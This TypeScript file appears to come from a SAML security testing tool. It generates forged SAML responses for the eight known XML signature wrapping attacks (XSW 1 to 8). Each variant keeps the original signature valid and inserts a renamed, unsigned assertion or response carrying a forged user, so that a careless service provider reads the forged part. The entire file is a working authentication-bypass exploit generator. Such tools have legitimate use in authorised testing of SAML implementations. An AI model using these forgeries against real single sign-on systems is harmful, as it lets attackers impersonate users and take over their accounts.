// Makes the eight known signature wrapping attacks (XSW 1 to 8). The signature stays valid, but a careless server reads
// a forged part of the document instead of the signed part.

interface SamlResponseParts {
  /** The text of the document before its one assertion. */
  before: string
  assertion: string
  after: string
  signature: string
}

function partsOf(xml: string): SamlResponseParts {
  const [assertion = ''] = /<saml:Assertion[^]*<\/saml:Assertion>/u.exec(xml) ?? []
  const [signature = ''] = /<Signature [^]*?<\/Signature>/u.exec(assertion) ?? []
  const [before = '', after = ''] = xml.split(assertion)
  return { before, assertion, after, signature }
}

const unsigned = (xml: string) => xml.replaceAll(/<Signature [^]*?<\/Signature>/gu, '')
const renamed = (xml: string) => xml.replace(/ ID="[^"]+"/u, ' ID="_wrapped"')
const withSignature = (assertion: string, signature: string) =>
  assertion.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)
const holding = (signature: string, content: string) =>
  signature.replace('</Signature>', `<Object>${content}</Object></Signature>`)

/**
 * Returns the forged documents by name of the attack.
 * @param forge  Replaces the user in an assertion.
 */
export function wrappingAttacks(
  xml: string,
  forge: (xml: string) => string,
): Record<string, string> {
  const { before, assertion, after, signature } = partsOf(xml)
  const evil = renamed(forge(unsigned(assertion)))
  const [root = ''] = /<Signature [^]*?<\/Signature>/u.exec(before) ?? []
  const evilResponse = renamed(forge(unsigned(xml)))
  const withContent = (content: string) => `${unsigned(before)}${content}${after}`
  const intoResponse = (content: string) =>
    evilResponse.replace('</saml:Issuer>', `</saml:Issuer>${content}`)
  const inside = (content: string) =>
    evil.replace('</saml:Assertion>', `${content}</saml:Assertion>`)
  return {
    'a response inside the signature of another': intoResponse(holding(root, unsigned(xml))),
    'a response beside its signature, in another': intoResponse(`${unsigned(xml)}${root}`),
    'another assertion before it': withContent(`${evil}${assertion}`),
    'another assertion around it': withContent(inside(assertion)),
    'its signature on another assertion': withContent(
      `${withSignature(evil, signature)}${unsigned(assertion)}`,
    ),
    'itself inside its signature on another': withContent(
      withSignature(evil, holding(signature, unsigned(assertion))),
    ),
    'another assertion among extensions': withContent(
      `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`,
    ),
    'itself as an object of the signature of another': withContent(
      withSignature(inside(`<Object>${unsigned(assertion)}</Object>`), signature),
    ),
  }
}
